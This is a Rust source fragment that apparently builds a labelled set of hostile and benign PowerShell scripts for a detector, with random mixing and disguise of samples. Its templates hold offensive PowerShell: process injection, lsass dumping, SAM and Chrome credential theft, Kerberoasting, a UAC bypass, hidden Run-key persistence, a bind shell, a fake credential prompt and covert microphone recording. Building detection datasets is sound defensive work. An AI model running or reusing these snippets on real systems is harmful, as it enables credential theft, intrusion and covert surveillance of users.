    "function Get-TimedScreenshot {\n    Param([string]$Path, [int]$Interval)\n    Add-Type -AssemblyName System.Windows.Forms\n    $bounds = [System.Windows.Forms.SystemInformation]::VirtualScreen\n    $bitmap = New-Object Drawing.Bitmap $bounds.Width, $bounds.Height\n    $graphics = [Drawing.Graphics]::FromImage($bitmap)\n    $graphics.CopyFromScreen($bounds.Location, [Drawing.Point]::Empty, $bounds.Size)\n    $bitmap.Save(\"$Path\\$(Get-Random).png\")\n}\n",
    "function Invoke-‹Word›Injection {\n    [CmdletBinding()]\n    Param(\n        [Parameter(Position = 0, Mandatory = $true)][Byte[]]$PEBytes,\n        [Parameter()][Int]$ProcId\n    )\n    Function Get-Win32Functions {\n        $Win32Functions = New-Object System.Object\n        $VirtualAllocAddr = Get-ProcAddress kernel32.dll VirtualAlloc\n        $VirtualAllocDelegate = Get-DelegateType @([IntPtr], [UIntPtr], [UInt32], [UInt32]) ([IntPtr])\n        $VirtualAlloc = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($VirtualAllocAddr, $VirtualAllocDelegate)\n        $WriteProcessMemoryAddr = Get-ProcAddress kernel32.dll WriteProcessMemory\n        $CreateRemoteThreadAddr = Get-ProcAddress kernel32.dll CreateRemoteThread\n        return $Win32Functions\n    }\n    $RemoteProcHandle = $Win32Functions.OpenProcess.Invoke(0x001F0FFF, $false, $ProcId)\n    $RThreadHandle = Create-RemoteThread -ProcessHandle $RemoteProcHandle -StartAddress $LoadLibraryAddr\n}\n",
    "function Get-‹Word›Credential {\n    <#\n    .SYNOPSIS\n    Retrieves plaintext passwords from group policy preferences.\n    #>\n    [CmdletBinding()]\n    Param([string]$Server = $Env:USERDNSDOMAIN)\n    function Get-DecryptedCpassword([string]$Cpassword) {\n        $AesObject = New-Object System.Security.Cryptography.AesCryptoServiceProvider\n        $AesObject.Key = [Byte[]]@(0x4e,0x99,0x06,0xe8,0xfc,0xb6,0x6c,0xc9)\n        $DecryptorObject = $AesObject.CreateDecryptor()\n    }\n    Get-ChildItem -Path \"\\\\$Server\\SYSVOL\" -Recurse -Include 'Groups.xml','Services.xml','Scheduledtasks.xml','DataSources.xml' | ForEach-Object { [xml]$Xml = Get-Content $_; $Xml.Groups.User.Properties.cpassword }\n}\n",
    "function Invoke-‹Word›Hunter {\n    param([string[]]$ComputerName, [string]$GroupName = 'Domain Admins', [switch]$Stealth)\n    $Searcher = New-Object System.DirectoryServices.DirectorySearcher\n    $Searcher.Filter = '(&(samAccountType=805306368)(servicePrincipalName=*))'\n    $Targets = Get-NetGroupMember -GroupName $GroupName\n    foreach ($Computer in $ComputerName) {\n        $Sessions = Get-NetSession -ComputerName $Computer\n        if (Test-AdminAccess -ComputerName $Computer) { Write-Verbose \"local admin on $Computer\" }\n    }\n}\n",
    "function Invoke-Kerberoast‹Word› {\n    param([string]$Identity)\n    $users = ([adsisearcher]'(servicePrincipalName=*)').FindAll()\n    Add-Type -AssemblyName System.IdentityModel\n    foreach ($user in $users) {\n        $spn = $user.Properties.serviceprincipalname[0]\n        $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn\n        $bytes = $ticket.GetRequest()\n        $hash = [BitConverter]::ToString($bytes) -replace '-'\n        '$krb5tgs$23$*' + $user.Properties.samaccountname + $hash\n    }\n}\n",
    "function Invoke-‹Word›Bypass {\n    [CmdletBinding()]\n    Param([Parameter(Mandatory = $True)][string]$Command)\n    $mscCommandPath = 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command'\n    if (-not (Test-Path $mscCommandPath)) { New-Item $mscCommandPath -Force | New-ItemProperty -Name '(Default)' -Value $Command -PropertyType string -Force | Out-Null }\n    Start-Process -FilePath (Join-Path $env:windir 'System32\\eventvwr.exe') -WindowStyle Hidden\n    Start-Sleep -Seconds 5\n    Remove-Item 'HKCU:\\Software\\Classes\\mscfile\\' -Recurse -Force\n}\n",
    "function Install-‹Word›Persistence {\n    Param([ScriptBlock]$ScriptBlock, [string]$PersistentScriptFilePath, [switch]$AtLogon)\n    $payload = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($ScriptBlock))\n    $RegistryPath = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n    New-ItemProperty -Path $RegistryPath -Name 'Updater' -Value \"powershell.exe -NonInteractive -WindowStyle Hidden -enc $payload\" -Force\n    $Profile = $PROFILE.AllUsersAllHosts\n    Add-Content -Path $Profile -Value \"IEX `$(Get-ItemProperty $RegistryPath).Debug\"\n}\n",
    "function Invoke-‹Word›Scan {\n    param([string[]]$Hosts, [int[]]$Ports = @(21,22,23,80,135,139,443,445,1433,3389,5985))\n    foreach ($h in $Hosts) { foreach ($p in $Ports) {\n        $t = New-Object System.Net.Sockets.TcpClient\n        $c = $t.BeginConnect($h, $p, $null, $null)\n        if ($c.AsyncWaitHandle.WaitOne(200, $false) -and $t.Connected) { \"$h`:$p open\" }\n        $t.Close()\n    } }\n}\n",
    "function Start-‹Word›Shell {\n    param([string]$IPAddress, [int]$Port)\n    $listener = [System.Net.Sockets.TcpListener]$Port\n    $listener.Start()\n    $client = $listener.AcceptTcpClient()\n    $stream = $client.GetStream()\n    [byte[]]$buffer = 0..65535 | % { 0 }\n    while (($count = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {\n        $text = (New-Object Text.ASCIIEncoding).GetString($buffer, 0, $count)\n        $reply = (Invoke-Expression -Command $text 2>&1 | Out-String)\n        $bytes = ([text.encoding]::ASCII).GetBytes($reply)\n        $stream.Write($bytes, 0, $bytes.Length)\n    }\n}\n",
    "function Invoke-‹Word›Phish {\n    $cred = $host.ui.promptforcredential('Failed Authentication', '', [Environment]::UserDomainName + '\\' + [Environment]::UserName, [Environment]::UserDomainName)\n    $cred.GetNetworkCredential() | Select-Object UserName, Password | Out-File \"$env:TEMP\\‹var›.txt\"\n}\n",
    "function Out-‹Word›Dump {\n    Param([System.Diagnostics.Process]$Process = (Get-Process lsass), [string]$DumpFilePath = $env:TEMP)\n    $WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting')\n    $MiniDumpWriteDump = $WER.GetNestedType('NativeMethods', 'NonPublic').GetMethod('MiniDumpWriteDump', [Reflection.BindingFlags]'NonPublic, Static')\n    $FileStream = New-Object IO.FileStream(\"$DumpFilePath\\$($Process.Name).dmp\", [IO.FileMode]::Create)\n    $MiniDumpWriteDump.Invoke($null, @($Process.Handle, $Process.Id, $FileStream.SafeFileHandle, [UInt32]2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero))\n}\n",
    "function Get-‹Word›Sam {\n    $key = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD')\n    reg save HKLM\\SAM \"$env:TEMP\\s\"; reg save HKLM\\SYSTEM \"$env:TEMP\\y\"\n    $bootkey = Get-BootKey; $hbootkey = Get-HBootKey $bootkey\n    Get-UserHashes $u $hbootkey | % { \"$($_.Name):$($_.Rid):$($_.LMHash):$($_.NTLMHash):::\" }\n}\n",
    "function Get-ChromeDump‹Word› {\n    $path = \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\"\n    Copy-Item $path \"$env:TEMP\\‹var›.db\"\n    [void][Reflection.Assembly]::LoadWithPartialName('System.Security')\n    $plain = [System.Security.Cryptography.ProtectedData]::Unprotect($row.password_value, $null, [System.Security.Cryptography.DataProtectionScope]::CurrentUser)\n}\n",
    "function Invoke-‹Word›Exec {\n    param($ComputerName, $Command, $ServiceName = '‹task›')\n    $scm = $OpenSCManager.Invoke(\"\\\\$ComputerName\", 'ServicesActive', 0xF003F)\n    $svc = $CreateService.Invoke($scm, $ServiceName, $ServiceName, 0xF003F, 0x10, 3, 1, \"%COMSPEC% /C $Command\", $null, $null, $null, $null, $null)\n    $StartService.Invoke($svc, $null, $null)\n}\n",
    "function Find-‹Word›Path {\n    Get-WmiObject win32_service | Where-Object { $_.PathName -notmatch '\"' -and $_.PathName -match ' ' } | ForEach-Object { Write-ServiceBinary -ServiceName $_.Name }\n    $AlwaysInstallElevated = (Get-ItemProperty HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer).AlwaysInstallElevated\n    Get-UnattendedInstallFile; Get-RegAutoLogon\n}\n",
    "function Invoke-‹Word›Token {\n    [CmdletBinding()] Param([Switch]$Enumerate, [String]$Username, [String]$CreateProcess)\n    $hToken = [IntPtr]::Zero\n    $OpenProcessToken.Invoke($hProcess, 0xF01FF, [ref]$hToken)\n    $DuplicateTokenEx.Invoke($hToken, 0x2000000, [IntPtr]::Zero, 3, 1, [ref]$hDup)\n    $ImpersonateLoggedOnUser.Invoke($hDup)\n    $AdjustTokenPrivileges.Invoke($hToken, $false, 'SeDebugPrivilege')\n}\n",
    "function Get-MicrophoneAudio‹Word› {\n    Param([Int]$Length = 30, [string]$Path)\n    $mci = Get-DelegateType @([String], [Text.StringBuilder], [UInt32], [IntPtr]) ([Int])\n    $mciSendString.Invoke('open new Type waveaudio Alias capture', $null, 0, 0)\n    $mciSendString.Invoke(\"save capture `\"$Path`\"\", $null, 0, 0)\n}\n",
];

/// Benign parts: ones that mean something, and ones that only look like PowerShell.
fn parts(random: &mut Random) -> String {
    if random.below(2) == 0 { one(BENIGN, random) } else { fill("‹body›", random) }
}

/// A benign script: its template's number and its text.
pub fn benign(random: &mut Random) -> (u32, String) {
    if random.below(2) == 0 {
        let text = (0..1 + random.below(4)).map(|_| parts(random)).collect();
        return (GRAMMAR, disguise(text, 12, random));
    }
    let at = random.below(BENIGN.len());
    let mut text = one(HEADS, random);
    text.push_str(&fill(BENIGN.get(at).copied().unwrap_or(""), random));
    for _ in 0..random.below(5) {
        if random.below(4) == 0 {
            text.push_str(&fill("\n# ‹Word›: see the wiki\n", random));
        }
        text.push_str(&parts(random));
    }
    (at as u32, disguise(text, 12, random))
}

/// The number of scripts that were put together from parts.
const GRAMMAR: u32 = 999;

/// A hostile script: its template's number and its text. Some stand among benign parts, some are disguised.
pub fn hostile(random: &mut Random) -> (u32, String) {
    let launcher = random.below(5) < 3;
    let templates = if launcher { LAUNCHERS } else { TOOLS };
    let at = random.below(templates.len());
    let mut text = fill(templates.get(at).copied().unwrap_or(""), random);
    if !launcher {
        for _ in 0..random.below(3) {
            text.push_str(&one(TOOLS, random));
        }
    } else if random.below(4) == 0 {
        text = format!("{text}\n{}", one(LAUNCHERS, random));
    }
    if random.below(if launcher { 5 } else { 2 }) == 0 {
        text = format!("{}{text}\n{}", parts(random), parts(random));
    }
    (1000 + 1000 * u32::from(launcher) + at as u32, disguise(text, 3, random))
}

/// As many hostile scripts and as many benign ones.
pub fn beside(count: usize, random: &mut Random) -> Vec<(String, bool, u32)> {
    let one = |at: usize| {
        let attack = at.is_multiple_of(2);
        let (group, text) = if attack { hostile(random) } else { benign(random) };
        // Scripts put together from parts are no copies of each other.
        let group = if group == GRAMMAR { 10_000 + at as u32 / 8 } else { group };
        (text, attack, group)
    };
    (0..2 * count).map(one).collect()
}

/// One in `of` is disguised: on both sides, so that a disguise alone is no proof.
fn disguise(text: String, of: usize, random: &mut Random) -> String {
    if random.below(of) != 0 {
        return text;
    }
    let how = Mutation::ALL.get(random.below(Mutation::ALL.len())).copied().unwrap_or(Mutation::Case);
    mutate(&text, how, random)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_template_can_be_filled() {
        for template in [HEADS, BENIGN, LAUNCHERS, TOOLS].into_iter().flatten() {
            let text = fill(template, &mut Random::new(1));
            assert!(!text.contains('‹') && !text.contains('›'), "{template}: {text}");
        }
        for seed in 0..300 {
            let text = fill("‹body›", &mut Random::new(seed));
            assert!(!text.contains('‹') && !text.contains('›') && text.len() < 1 << 16, "{text}");
        }
    }
}
